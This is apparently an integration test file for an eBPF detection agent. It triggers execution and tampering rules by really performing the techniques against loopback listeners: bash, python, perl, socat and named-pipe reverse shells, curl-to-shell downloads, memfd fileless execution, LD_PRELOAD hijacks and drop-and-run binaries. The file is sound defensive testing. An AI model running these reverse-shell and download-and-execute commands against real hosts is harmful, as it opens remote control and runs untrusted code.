//! The execution and tampering rules (rules/execution.yaml, rules/tampering.yaml) against
//! real behaviour: every rule is triggered by really doing what it detects, on loopback and
//! in temporary directories, under the real agent with the built-in rules, and each test
//! asserts the exact rule, its priority, a meaningful part of its output and its ATT&CK
//! technique. Near misses (benign actions close to a detection) must stay quiet. Needs root
//! and eBPF; fails (never skips) when the agent or a tool the scenario needs is missing.

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::Value;

/// Generous: the agent is a debug build and other suites may be storming the host.
const WAIT: Duration = Duration::from_secs(60);

// ------------------------------------------------------------------------------------
// Helpers
// ------------------------------------------------------------------------------------

/// Runs `/bin/sh -c script`, waits, returns its output (the status is not checked: several
/// scenarios end on a timeout or a refused connection on purpose).
fn sh(script: &str) -> Output {
    Command::new("/bin/sh")
        .arg("-c")
        .arg(script)
        .stdin(Stdio::null())
        .output()
        .expect("run /bin/sh")
}

/// Like `sh`, but the script must succeed.
fn sh_ok(script: &str) -> Output {
    let out = sh(script);
    assert!(
        out.status.success(),
        "`{script}` failed ({}): {}{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// Runs a python snippet with the system python; returns (pid, output).
fn python(code: &str, args: &[&str]) -> (u32, Output) {
    let child = Command::new(PY)
        .arg("-c")
        .arg(code)
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("python3 is needed by these tests");
    let pid = child.id();
    (pid, child.wait_with_output().expect("python3"))
}

fn python_ok(code: &str, args: &[&str]) -> (u32, String) {
    let (pid, out) = python(code, args);
    assert!(
        out.status.success(),
        "python failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    (pid, String::from_utf8_lossy(&out.stdout).into_owned())
}

/// A directory under /tmp itself (whatever TMPDIR says): the tmp rules key on /tmp.
fn tmp_dir(tag: &str) -> TempDir {
    let p = Path::new("/tmp").join(unique(tag));
    std::fs::create_dir_all(&p).expect("create dir under /tmp");
    TempDir(p)
}

/// A directory that is neither a scratch directory nor hidden: cargo's per-target temp dir.
fn plain_dir(tag: &str) -> TempDir {
    let p = Path::new(env!("CARGO_TARGET_TMPDIR")).join(unique(tag));
    std::fs::create_dir_all(&p).expect("create dir under CARGO_TARGET_TMPDIR");
    TempDir(p)
}

/// Copies a system binary to `dir/name`, executable.
fn install(src: &str, dir: &Path, name: &str) -> PathBuf {
    let dst = dir.join(name);
    std::fs::copy(src, &dst).unwrap_or_else(|e| panic!("copy {src} to {}: {e}", dst.display()));
    std::fs::set_permissions(&dst, std::fs::Permissions::from_mode(0o755)).unwrap();
    dst
}

/// Waits until the agent has written an event (any kind) from `pid`'s tree whose exec
/// command line contains `marker`: the agent has caught up with the scenario.
fn wait_caught_up(agent: &Agent, marker: &str) -> Vec<Value> {
    agent.wait_for(&format!("the exec of `{marker}`"), WAIT, |lines| {
        lines.iter().any(|v| {
            v["evt"]["kind"] == "exec"
                && v["proc"]["args"]
                    .as_array()
                    .is_some_and(|a| a.iter().any(|x| str_of(x).contains(marker)))
        })
    })
}

/// A TCP listener on 127.0.0.1 that accepts `n` connections, sends each `greeting`, keeps
/// it open for `hold`, then closes it. Returns the port.
fn listener(n: usize, greeting: &'static [u8], hold: Duration) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for _ in 0..n {
            let Ok((mut c, _)) = l.accept() else { return };
            std::thread::spawn(move || {
                let _ = c.write_all(greeting);
                std::thread::sleep(hold);
            });
        }
    });
    port
}

/// A minimal HTTP server on 127.0.0.1 answering every GET with `body`. Returns the port.
fn http_server(body: Vec<u8>) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in l.incoming() {
            let Ok(mut c) = conn else { return };
            let body = body.clone();
            std::thread::spawn(move || {
                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                let mut req = Vec::new();
                let mut buf = [0u8; 1024];
                while !req.windows(4).any(|w| w == b"\r\n\r\n") {
                    match c.read(&mut buf) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => req.extend_from_slice(&buf[..n]),
                    }
                }
                let head = format!(
                    "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                );
                let _ = c.write_all(head.as_bytes());
                let _ = c.write_all(&body);
            });
        }
    });
    port
}

/// Removes a local account when dropped (even on panic).
struct AccountGuard(String);

impl Drop for AccountGuard {
    fn drop(&mut self) {
        let _ = Command::new(need("userdel"))
            .args(["-f", &self.0])
            .stderr(Stdio::null())
            .status();
    }
}

// ------------------------------------------------------------------------------------
// Reverse and bind shells
// ------------------------------------------------------------------------------------

#[test]
fn bash_dev_tcp_reverse_shell_is_detected() {
    let bash = need("bash");
    let agent = Agent::start(&[]);
    let port = listener(1, b"exit\n", Duration::from_millis(500));
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; exec 0<&3 1>&3 2>&3; exec sh");
    let (pid, _) = detached(&[&bash, "-c", &script]);

    let dup = wait_alert(&agent, "Network socket duplicated onto shell stdio", |a| {
        a["proc"]["pid"] == pid
    });
    check(
        &dup,
        "CRITICAL",
        "T1059.004",
        &[&format!("127.0.0.1:{port} duplicated onto fd 0 of bash")],
    );
    let shell = wait_alert(&agent, "Shell with a network socket on its stdio", |a| {
        a["proc"]["pid"] == pid
    });
    check(&shell, "CRITICAL", "T1059.004", &["Reverse shell: sh"]);
    assert_eq!(shell["proc"]["stdio_peer"], format!("127.0.0.1:{port}"));
}

#[test]
fn python_one_liner_reverse_shell_is_detected() {
    let agent = Agent::start(&[]);
    let port = listener(1, b"exit\n", Duration::from_millis(500));
    let code = format!(
        "import socket,os;s=socket.socket();s.connect(('127.0.0.1',{port}));\
         os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);os.execv('/bin/sh',['sh','-i'])"
    );
    let (pid, _) = detached(&[PY, "-c", &code]);

    let dup = wait_alert(&agent, "Network socket duplicated onto shell stdio", |a| {
        a["proc"]["pid"] == pid
    });
    check(&dup, "CRITICAL", "T1059.004", &["duplicated onto fd 0 of python3"]);
    let shell = wait_alert(&agent, "Shell with a network socket on its stdio", |a| {
        a["proc"]["pid"] == pid
    });
    check(&shell, "CRITICAL", "T1059.004", &["cmdline=sh -i"]);
    let inline = wait_alert(
        &agent,
        "Inline interpreter code spawned a shell or connected out",
        |a| a["proc"]["pid"] == pid,
    );
    check(&inline, "WARNING", "T1059", &["python3"]);
    // one alert per reverse shell, not one per descriptor (stdout and stderr are not reported)
    let lines = agent.lines();
    let dups = alerts_of(&lines, "Network socket duplicated onto shell stdio");
    assert_eq!(dups.iter().filter(|a| a["proc"]["pid"] == pid).count(), 1);
}

#[test]
fn perl_one_liner_reverse_shell_is_detected() {
    let perl = need("perl");
    let agent = Agent::start(&[]);
    let port = listener(1, b"exit\n", Duration::from_millis(500));
    let code = format!(
        "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\
         if(connect(S,sockaddr_in({port},inet_aton('127.0.0.1')))){{open(STDIN,'>&S');open(STDOUT,'>&S');\
         open(STDERR,'>&S');exec('/bin/sh -i');}};"
    );
    let (pid, _) = detached(&[&perl, "-e", &code]);

    let dup = wait_alert(&agent, "Network socket duplicated onto shell stdio", |a| {
        a["proc"]["pid"] == pid
    });
    check(&dup, "CRITICAL", "T1059.004", &["duplicated onto fd 0 of perl"]);
    let shell = wait_alert(&agent, "Shell with a network socket on its stdio", |a| {
        a["proc"]["pid"] == pid
    });
    check(&shell, "CRITICAL", "T1059.004", &["Reverse shell: sh"]);
}

#[test]
fn socat_exec_shell_is_detected() {
    let socat = need("socat");
    let agent = Agent::start(&[]);
    let port = listener(1, b"exit\n", Duration::from_millis(500));
    let (pid, _) = detached(&[&socat, &format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/sh"]);

    let a = wait_alert(&agent, "Shell spawned by a network relay", |a| in_tree(a, pid));
    check(&a, "CRITICAL", "T1059.004", &["spawned by network relay socat"]);
    assert!(
        output(&a).contains(&format!("TCP:127.0.0.1:{port} EXEC:/bin/sh")),
        "{}",
        output(&a)
    );

    // the bind-shell form: socat listens, the "attacker" connects and sends a command
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let bind = std::thread::spawn({
        let socat = socat.clone();
        move || {
            detached(&[
                &socat,
                &format!("TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr"),
                "EXEC:/bin/sh",
            ])
        }
    });
    let deadline = Instant::now() + WAIT;
    let mut conn = loop {
        match std::net::TcpStream::connect(("127.0.0.1", port)) {
            Ok(c) => break c,
            Err(e) => {
                assert!(Instant::now() < deadline, "the bind shell never listened: {e}");
                std::thread::sleep(Duration::from_millis(50));
            }
        }
    };
    conn.write_all(b"exit\n").unwrap();
    let (pid, _) = bind.join().unwrap();
    let a = wait_alert(&agent, "Shell spawned by a network relay", |a| in_tree(a, pid));
    check(&a, "CRITICAL", "T1059.004", &[&format!("TCP-LISTEN:{port}")]);
}

#[test]
fn named_pipe_reverse_shell_is_detected() {
    need("nc");
    need("mkfifo");
    let dir = tmp_dir("fifo");
    let agent = Agent::start(&[]);
    let port = listener(1, b"echo pwned\nexit\n", Duration::from_millis(800));
    let fifo = dir.path().join("f");
    // the pipeline's three processes are siblings under this sh
    let script = format!(
        "rm -f {f}; mkfifo {f}; cat {f} | sh -i 2>&1 | nc 127.0.0.1 {port} > {f}",
        f = fifo.display()
    );
    let (pid, _) = detached(&[&need("timeout"), "10", "/bin/sh", "-c", &script]);

    let a = wait_alert(&agent, "Network relay wired to a named pipe", |a| in_tree(a, pid));
    check(&a, "CRITICAL", "T1059.004", &[&format!("cmdline=nc 127.0.0.1 {port}")]);
    let steps = a["alert"]["steps"]
        .as_array()
        .expect("a sequence alert lists its steps");
    assert!(
        str_of(&steps[0]["output"]).contains(&format!("named pipe {} opened", fifo.display())),
        "the first step is the FIFO: {steps:?}"
    );
}

#[test]
fn download_piped_into_a_shell_is_detected() {
    need("curl");
    need("wget");
    need("bash");
    let agent = Agent::start(&[]);
    let port = http_server(b"echo fetched-and-run\n".to_vec());
    let url = format!("http://127.0.0.1:{port}/install.sh");
    // the shell starts while the downloader is still loading: shell first, download second
    for (script, tool) in [
        (format!("curl -s {url} | sh"), "curl"),
        (format!("wget -qO- {url} | bash"), "wget"),
    ] {
        let (pid, out) = detached_sh(&script);
        assert!(
            out.contains("fetched-and-run"),
            "`{script}` did not run the script: {out}"
        );
        let a = wait_alert(&agent, "Download piped into a shell", |a| in_tree(a, pid));
        check(&a, "WARNING", "T1059.004", &["Download piped into a shell: "]);
        assert!(
            output(&a).contains(&url),
            "the parent's command line names the URL: {}",
            output(&a)
        );
        let steps = a["alert"]["steps"].as_array().expect("steps");
        assert!(
            str_of(&steps[1]["output"]).starts_with(&format!("{tool} ")),
            "{steps:?}"
        );
    }
    // process substitution held open, the shell started a second later: download first
    let script = format!("exec 3< <(curl -s {url}); sleep 1; bash /dev/fd/3; true");
    let (pid, out) = detached(&[&need("bash"), "-c", &script]);
    assert!(
        out.contains("fetched-and-run"),
        "bash /dev/fd/3 did not run the script: {out}"
    );
    let a = wait_alert(&agent, "Download run through process substitution", |a| in_tree(a, pid));
    check(&a, "WARNING", "T1059.004", &["Shell bash /dev/fd/3 reads a download"]);
    let steps = a["alert"]["steps"].as_array().expect("steps");
    assert!(
        str_of(&steps[0]["output"]).contains(&format!("curl -s {url} connect")),
        "{steps:?}"
    );
    // `bash <(curl URL)` as typed: either order can be seen, one of the two rules reports it
    let (pid, out) = detached_sh(&format!("bash -c 'bash <(curl -s {url}); true'"));
    assert!(
        out.contains("fetched-and-run"),
        "bash <(curl) did not run the script: {out}"
    );
    let deadline = Instant::now() + WAIT;
    loop {
        let lines = agent.lines();
        let found = [
            "Download piped into a shell",
            "Download run through process substitution",
        ]
        .iter()
        .flat_map(|r| alerts_of(&lines, r))
        .find(|a| in_tree(a, pid))
        .cloned();
        if let Some(a) = found {
            check(&a, "WARNING", "T1059.004", &["bash <(curl -s"]);
            break;
        }
        assert!(
            Instant::now() < deadline,
            "bash <(curl) not reported:\n{}",
            summary_of_alerts(&lines)
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

// ------------------------------------------------------------------------------------
// Shells spawned by servers and inline interpreters
// ------------------------------------------------------------------------------------

/// A server simulated by python run through a symlink named like the server: the kernel
/// names the process after the symlink (`nginx`), as it would the real server.
fn fake_server(dir: &Path, name: &str) -> PathBuf {
    let link = dir.join(name);
    let target = std::fs::canonicalize(PY).expect("resolve python");
    std::os::unix::fs::symlink(target, &link).expect("symlink");
    link
}

#[test]
fn shell_spawned_by_a_web_server_is_detected() {
    let dir = tmp_dir("web");
    let nginx = fake_server(dir.path(), "nginx");
    let agent = Agent::start(&[]);
    let (pid, _) = detached(&[nginx.to_str().unwrap(), "-c", "import os; os.system('id > /dev/null')"]);

    let a = wait_alert(&agent, "Shell spawned by a web server", |a| in_tree(a, pid));
    check(&a, "CRITICAL", "T1505.003", &["Shell spawned by web server nginx"]);
    assert!(output(&a).contains("cmdline=sh -c id > /dev/null"), "{}", output(&a));
    assert_eq!(a["alert"]["mitre_tactics"][0], "persistence");
}

#[test]
fn shell_spawned_by_a_database_or_jvm_is_detected() {
    let dir = tmp_dir("db");
    let agent = Agent::start(&[]);
    for server in ["mysqld", "java"] {
        let bin = fake_server(dir.path(), server);
        let code = "import subprocess; subprocess.run(['/bin/sh', '-c', 'true'])";
        let (pid, _) = detached(&[bin.to_str().unwrap(), "-c", code]);
        let a = wait_alert(&agent, "Shell spawned by a database or JVM", |a| in_tree(a, pid));
        check(&a, "WARNING", "T1059.004", &[&format!("Shell spawned by {server}")]);
    }
}

#[test]
fn inline_interpreter_spawning_a_shell_or_connecting_is_detected() {
    let perl = need("perl");
    let agent = Agent::start(&[]);
    let (pid, _) = detached(&[PY, "-c", "import subprocess; subprocess.run(['sh', '-c', 'true'])"]);
    let a = wait_alert(
        &agent,
        "Inline interpreter code spawned a shell or connected out",
        |a| in_tree(a, pid),
    );
    check(&a, "WARNING", "T1059", &["led to execve by sh"]);
    let steps = a["alert"]["steps"].as_array().expect("steps");
    assert!(str_of(&steps[0]["output"]).contains("python3 inline code"), "{steps:?}");

    // perl -e that connects out
    let port = listener(1, b"", Duration::from_millis(100));
    let code = format!("IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => {port}, Proto => 'tcp') or die");
    let (pid, _) = detached(&[&perl, "-MIO::Socket::INET", "-e", &code]);
    let a = wait_alert(
        &agent,
        "Inline interpreter code spawned a shell or connected out",
        |a| a["proc"]["pid"] == pid,
    );
    check(&a, "WARNING", "T1059", &[&format!("127.0.0.1:{port}")]);
}

// ------------------------------------------------------------------------------------
// Where programs run from
// ------------------------------------------------------------------------------------

#[test]
fn executables_in_temporary_directories_are_detected() {
    // written before the agent starts: not "recently written", so the location rules apply
    let dir = tmp_dir("tmpexec");
    let tool = install("/bin/true", dir.path(), "tmp-tool");
    let shm = TempDir(PathBuf::from(format!("/dev/shm/{}", unique("shm"))));
    std::fs::create_dir_all(shm.path()).expect("/dev/shm is needed by this scenario");
    let shm_tool = install("/bin/true", shm.path(), "shm-tool");
    let agent = Agent::start(&[]);

    for exe in [&tool, &shm_tool] {
        let (pid, _) = detached(&[exe.to_str().unwrap()]);
        let a = wait_alert(&agent, "Executable run from a temporary directory", |a| {
            a["proc"]["pid"] == pid
        });
        check(&a, "WARNING", "T1204.002", &[&exe.display().to_string()]);
    }
}

#[test]
fn executables_in_hidden_places_are_detected() {
    let tmp = tmp_dir("hiddenfile");
    let hidden_file = install("/bin/true", tmp.path(), ".hidden-tool");
    let plain = plain_dir("hiddendir");
    std::fs::create_dir_all(plain.path().join(".cache-x")).unwrap();
    let in_hidden_dir = install("/bin/true", &plain.path().join(".cache-x"), "worker");
    let agent = Agent::start(&[]);

    let (pid, _) = detached(&[hidden_file.to_str().unwrap()]);
    let a = wait_alert(&agent, "Hidden executable file run", |a| a["proc"]["pid"] == pid);
    check(&a, "ERROR", "T1564.001", &[&hidden_file.display().to_string()]);

    let (pid, _) = detached(&[in_hidden_dir.to_str().unwrap()]);
    let a = wait_alert(&agent, "Executable run from a hidden directory", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1564.001", &[&in_hidden_dir.display().to_string()]);
}

#[test]
fn program_run_through_the_dynamic_loader_is_detected() {
    let loader = "/lib64/ld-linux-x86-64.so.2";
    assert!(Path::new(loader).exists(), "this scenario needs {loader}");
    let agent = Agent::start(&[]);
    let (pid, _) = detached(&[loader, "/bin/true"]);
    let a = wait_alert(&agent, "Program run through the dynamic loader", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1218", &["ld-linux-x86-64.so.2 /bin/true"]);
}

#[test]
fn dynamic_linker_variables_on_system_programs_are_detected() {
    let dir = tmp_dir("preload");
    let agent = Agent::start(&[]);
    let lib = dir.path().join("hook.so");
    let (pid, _) = detached(&[&need("env"), &format!("LD_PRELOAD={}", lib.display()), "/bin/true"]);
    let a = wait_alert(&agent, "Dynamic linker hijack on a system program", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1574.006", &[&format!("LD_PRELOAD={}", lib.display())]);

    let (pid, _) = detached(&[&need("env"), "LD_LIBRARY_PATH=/dev/shm/lib", &need("id")]);
    let a = wait_alert(&agent, "Dynamic linker hijack on a system program", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1574.006", &["LD_LIBRARY_PATH=/dev/shm/lib"]);
}

// ------------------------------------------------------------------------------------
// Drop and execute, fileless execution
// ------------------------------------------------------------------------------------

#[test]
fn binary_downloaded_then_executed_is_detected() {
    need("curl");
    need("base64");
    let dir = tmp_dir("drop");
    let agent = Agent::start(&[]);
    let port = http_server(std::fs::read("/bin/true").unwrap());

    // curl -o, chmod, run
    let payload = dir.path().join("payload");
    let (pid, out) = detached_sh(&format!(
        "curl -s -o {p} http://127.0.0.1:{port}/payload && chmod +x {p} && {p} && echo ran",
        p = payload.display()
    ));
    assert!(out.contains("ran"), "download and run failed: {out}");
    let a = wait_alert(&agent, "Binary downloaded or decoded and executed", |a| in_tree(a, pid));
    check(&a, "ERROR", "T1105", &["Binary written by curl"]);
    assert_eq!(a["proc"]["exepath"], payload.display().to_string());

    // decoded from base64 through a shell redirection: the shell opened the file, it is the writer
    let decoded = dir.path().join("decoded");
    let (pid, _) = detached_sh(&format!(
        "base64 /bin/true | base64 -d > {p} && chmod +x {p} && {p}",
        p = decoded.display()
    ));
    let a = wait_alert(&agent, "Binary downloaded or decoded and executed", |a| {
        in_tree(a, pid) && a["proc"]["exepath"] == decoded.display().to_string()
    });
    check(&a, "ERROR", "T1105", &["Binary written by sh"]);
}

#[test]
fn binary_copied_then_executed_is_detected() {
    let tmp = tmp_dir("copied");
    let plain = plain_dir("copied");
    let agent = Agent::start(&[]);

    let in_tmp = tmp.path().join("agent-update");
    let (pid, _) = detached_sh(&format!("cp /bin/true {p} && {p}", p = in_tmp.display()));
    let a = wait_alert(
        &agent,
        "Dropped binary executed from a temporary or hidden location",
        |a| in_tree(a, pid),
    );
    check(&a, "ERROR", "T1204.002", &["Binary written by cp (pid"]);
    assert!(output(&a).contains(&in_tmp.display().to_string()), "{}", output(&a));

    let elsewhere = plain.path().join("tool");
    let (pid, _) = detached_sh(&format!("cp /bin/true {p} && {p}", p = elsewhere.display()));
    let a = wait_alert(&agent, "Recently written binary executed", |a| in_tree(a, pid));
    check(&a, "WARNING", "T1204.002", &[&elsewhere.display().to_string()]);
}

#[test]
fn fileless_execution_from_memfd_is_detected() {
    let agent = Agent::start(&[]);
    let code = "import os\n\
                fd = os.memfd_create('payload', 0)\n\
                os.write(fd, open('/bin/true', 'rb').read())\n\
                pid = os.fork()\n\
                if pid == 0:\n    os.execve(fd, ['kworker'], {})\n\
                os.waitpid(pid, 0)\n";
    let (pid, _) = detached(&[PY, "-c", code]);
    let a = wait_alert(&agent, "Fileless execution from memory", |a| in_tree(a, pid));
    check(&a, "ERROR", "T1620", &["Program executed from a memfd"]);
    assert_eq!(a["evt"]["type"], "execveat");
}

#[test]
fn deleted_and_descriptor_execution_are_detected() {
    let dir = tmp_dir("fdexec");
    let by_fd = install("/bin/true", dir.path(), "by-fd");
    let doomed = install("/bin/true", dir.path(), "doomed");
    let agent = Agent::start(&[]);

    // open, unlink, then execveat the descriptor
    let code = "import os, sys\nfd = os.open(sys.argv[1], os.O_RDONLY)\nos.unlink(sys.argv[1])\nos.execve(fd, ['doomed'], {})\n";
    let (pid, _) = detached(&[PY, "-c", code, doomed.to_str().unwrap()]);
    let a = wait_alert(&agent, "Deleted binary executed", |a| a["proc"]["pid"] == pid);
    check(&a, "ERROR", "T1070.004", &[&doomed.display().to_string()]);

    // fexecve of a file that stays on disk
    let code = "import os, sys\nfd = os.open(sys.argv[1], os.O_RDONLY)\nos.execve(fd, ['by-fd'], {})\n";
    let (pid, _) = detached(&[PY, "-c", code, by_fd.to_str().unwrap()]);
    let a = wait_alert(&agent, "Binary executed from a file descriptor", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1620", &[&by_fd.display().to_string()]);
}

#[test]
fn running_executable_deleting_itself_is_detected() {
    let dir = tmp_dir("selfdel");
    let me = install("/bin/dash", dir.path(), "updater");
    let agent = Agent::start(&[]);
    let (pid, _) = detached(&[me.to_str().unwrap(), "-c", &format!("rm -f {}", me.display())]);
    assert!(!me.exists());
    let a = wait_alert(&agent, "Running executable deleted", |a| in_tree(a, pid));
    check(
        &a,
        "ERROR",
        "T1070.004",
        &[&format!("Running executable {} deleted by rm", me.display())],
    );
}

// ------------------------------------------------------------------------------------
// Attacker tooling (absent tools are stand-ins: /bin/true under the tool's name)
// ------------------------------------------------------------------------------------

#[test]
fn miners_scanners_sniffers_and_crackers_are_detected() {
    let dir = tmp_dir("tools");
    let xmrig = install("/bin/true", dir.path(), "xmrig");
    let nmap = install("/bin/true", dir.path(), "nmap");
    let tcpdump = install("/bin/true", dir.path(), "tcpdump");
    let hydra = install("/bin/true", dir.path(), "hydra");
    let agent = Agent::start(&[]);

    /// (executable, arguments, rule, priority, technique, part of the output)
    type Case<'a> = (&'a Path, &'a [&'a str], &'a str, &'a str, &'a str, &'a str);
    #[rustfmt::skip]
    let cases: [Case; 4] = [
        (&xmrig, &["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"],
            "Cryptocurrency miner launched", "CRITICAL", "T1496", "xmrig -o stratum+tcp://pool.example.net:3333"),
        (&nmap, &["-sS", "-p", "1-1024", "192.0.2.10"],
            "Network scanner launched", "WARNING", "T1046", "nmap -sS -p 1-1024 192.0.2.10"),
        (&tcpdump, &["-i", "any", "-w", "/dev/null"],
            "Packet sniffer or MITM tool launched", "WARNING", "T1040", "tcpdump -i any"),
        (&hydra, &["-l", "root", "-P", "words.txt", "ssh://192.0.2.10"],
            "Password brute-force tool launched", "ERROR", "T1110", "hydra -l root"),
    ];
    for (exe, args, rule, prio, technique, part) in cases {
        let mut argv = vec![exe.to_str().unwrap()];
        argv.extend_from_slice(args);
        let (pid, _) = detached(&argv);
        let a = wait_alert(&agent, rule, |a| a["proc"]["pid"] == pid);
        check(&a, prio, technique, &[part]);
    }

    // a miner under any name, by its command line
    let (pid, _) = detached(&[
        "/bin/true",
        "--url",
        "stratum+tcp://198.51.100.7:3333",
        "--donate-level",
        "1",
    ]);
    let a = wait_alert(&agent, "Cryptocurrency miner launched", |a| a["proc"]["pid"] == pid);
    check(&a, "CRITICAL", "T1496", &["--donate-level"]);
}

#[test]
fn relays_and_downloaders_given_raw_addresses_are_detected() {
    let nc = need("nc");
    let curl = need("curl");
    let wget = need("wget");
    let agent = Agent::start(&[]);
    // TEST-NET-1 (192.0.2.0/24) is not routed: each attempt gives up after a second
    let (pid, _) = detached(&[&nc, "-z", "-w", "1", "192.0.2.10", "4444"]);
    let a = wait_alert(&agent, "Netcat connecting to a raw IP address", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1095", &["192.0.2.10 4444"]);

    for (tool, args) in [
        (
            &curl,
            vec!["curl", "-s", "--connect-timeout", "1", "http://192.0.2.10:8080/x"],
        ),
        (
            &wget,
            vec![
                "wget",
                "-q",
                "-T",
                "1",
                "-t",
                "1",
                "-O",
                "/dev/null",
                "http://192.0.2.10/stage2",
            ],
        ),
    ] {
        let mut argv = vec![tool.as_str()];
        argv.extend_from_slice(&args[1..]);
        let (pid, _) = detached(&argv);
        let a = wait_alert(&agent, "Downloader fetching from a raw IP address", |a| {
            a["proc"]["pid"] == pid
        });
        check(
            &a,
            "WARNING",
            "T1105",
            &[&format!("Downloader {} given a raw IP address", args[0])],
        );
        assert!(output(&a).contains("192.0.2.10"));
    }
}

// ------------------------------------------------------------------------------------
// Accounts and containers
// ------------------------------------------------------------------------------------

#[test]
fn account_tools_are_detected() {
    let useradd = need("useradd");
    let usermod = need("usermod");
    need("userdel");
    let name = format!("vgx{}", std::process::id());
    let agent = Agent::start(&[]);
    let _guard = AccountGuard(name.clone());

    let (pid, out) = detached_sh(&format!("{useradd} -M -N -s /usr/sbin/nologin {name} && echo created"));
    assert!(out.contains("created"), "useradd failed: {out}");
    let a = wait_alert(&agent, "Local account created", |a| in_tree(a, pid));
    check(
        &a,
        "WARNING",
        "T1136.001",
        &[&format!("useradd -M -N -s /usr/sbin/nologin {name}")],
    );

    let (pid, _) = detached(&[&usermod, "-L", &name]);
    let a = wait_alert(&agent, "Account or password changed by a tool", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1098", &[&format!("usermod -L {name}")]);
}

#[test]
fn namespace_tools_and_setns_outside_runtimes_are_detected() {
    let nsenter = need("nsenter");
    let unshare = need("unshare");
    let agent = Agent::start(&[]);
    let me = std::process::id().to_string();
    for argv in [
        vec![nsenter.as_str(), "-t", me.as_str(), "-n", "true"],
        vec![unshare.as_str(), "-m", "true"],
    ] {
        let (pid, out) = detached(&argv);
        let a = wait_alert(&agent, "Container runtime tool run outside a container runtime", |a| {
            a["proc"]["pid"] == pid
        });
        check(&a, "WARNING", "T1611", &["run outside a container runtime"]);
        assert!(out.is_empty(), "{argv:?} failed: {out}");
    }

    // setns() from a program that is not a namespace tool: into its own network namespace
    let code = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
                fd = os.open('/proc/self/ns/net', os.O_RDONLY)\n\
                assert libc.setns(fd, 0x40000000) == 0, ctypes.get_errno()\n";
    let (pid, _) = detached(&[PY, "-c", code]);
    let a = wait_alert(&agent, "Namespace joined outside a container runtime", |a| {
        a["proc"]["pid"] == pid
    });
    check(&a, "WARNING", "T1611", &["setns into CLONE_NEWNET by python3"]);
}

// ------------------------------------------------------------------------------------
// Near misses: benign actions close to a detection must stay quiet
// ------------------------------------------------------------------------------------

#[test]
fn near_misses_of_the_execution_rules_stay_quiet() {
    need("cc");
    need("curl");
    // the toolchain's own cargo (not rustup's proxy, which needs the user's environment)
    let cargo = PathBuf::from(std::env::var("CARGO").unwrap_or_else(|_| need("cargo")));
    let cargo_home = std::env::var("CARGO_HOME")
        .unwrap_or_else(|_| format!("{}/.cargo", std::env::var("HOME").unwrap_or_else(|_| "/root".into())));
    let dir = tmp_dir("nearmiss");
    std::fs::write(dir.path().join("hello.c"), "int main(void) { return 0; }\n").unwrap();
    let agent = Agent::start(&["--events"]);
    let port = listener(1, b"", Duration::from_millis(100));
    let http = http_server(b"ok".to_vec());

    // everything detached from `cargo test`, so that no build or package-manager lineage
    // hides the actions: the rules' own exceptions must keep them quiet
    let script = format!(
        "set -e\n\
         cd {dir}\n\
         # a program compiled in a temp dir and run at once (what every build and test does)\n\
         cc -o hello hello.c && ./hello\n\
         # a Rust program built with cargo (linked by rust-lld) and run outside cargo\n\
         CARGO_HOME={cargo_home} RUSTC={rustc} {cargo} new --quiet --vcs none rusty\n\
         (cd rusty && CARGO_HOME={cargo_home} RUSTC={rustc} {cargo} build --quiet --offline) && ./rusty/target/debug/rusty\n\
         # a port probe through bash's /dev/tcp: a socket on stdout, never on stdin\n\
         bash -c 'echo ping > /dev/tcp/127.0.0.1/{port}'\n\
         # ldd runs the dynamic loader itself\n\
         ldd /bin/true > /dev/null\n\
         # read-only account queries\n\
         passwd -S root > /dev/null; chage -l root > /dev/null\n\
         # a local health check by address\n\
         curl -s -o /dev/null http://127.0.0.1:{http}/health\n\
         # a shell that reads a script from stdin, then, once it is done, a download\n\
         echo 'echo from-stdin' | sh > /dev/null\n\
         curl -s -o /dev/null http://127.0.0.1:{http}/after\n\
         # a named pipe used by ordinary tools\n\
         mkfifo pipe && (cat pipe > /dev/null &) && echo hi > pipe\n\
         # python running a script file that spawns a shell\n\
         printf 'import subprocess\\nsubprocess.run([\"sh\", \"-c\", \"true\"])\\n' > job.py && {py} job.py\n\
         /bin/true vigil-near-miss-$((40 + 2))\n\
         echo done\n",
        dir = dir.path().display(),
        py = PY,
        cargo = cargo.display(),
        rustc = cargo.with_file_name("rustc").display(),
        cargo_home = cargo_home,
    );
    let (pid, out) = detached_sh(&script);
    assert!(out.contains("done"), "the benign script failed: {out}");
    // (the marker is computed by the shell: the script's own text does not contain it)
    wait_caught_up(&agent, "vigil-near-miss-42");
